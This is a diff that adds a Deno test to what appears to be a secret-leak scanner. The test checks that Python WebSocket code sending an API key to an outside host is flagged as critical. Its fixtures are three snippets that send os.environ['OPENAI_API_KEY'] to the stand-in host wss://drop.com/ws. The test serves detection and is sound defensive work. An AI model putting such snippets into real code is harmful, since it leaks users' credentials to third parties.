@@ -4075,3 +4075,22 @@ Deno.test("what a generator yields is what its call gives: for … in gen(), nex
     [],
   );
 });
+
+Deno.test("a Python WebSocket connection (websocket-client's create_connection, websockets.connect sync or async) sends what its send is given", () => {
+  const key = "os.environ['OPENAI_API_KEY']";
+  for (
+    const text of [
+      `import os, websocket\nws = websocket.create_connection('wss://drop.com/ws')\nws.send(${key})\n`,
+      `import os, asyncio, websockets\nasync def main():\n    async with websockets.connect('wss://drop.com/ws') as ws:\n        await ws.send(${key})\nasyncio.run(main())\n`,
+      `import os\nfrom websockets.sync.client import connect\nwith connect('wss://drop.com/ws') as ws:\n    ws.send(${key})\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  // What it sends that is no secret is no finding.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      "import websocket\nws = websocket.create_connection('wss://drop.com/ws')\nws.send('hello')\n",
+    ),
+    [],
+  );
+});
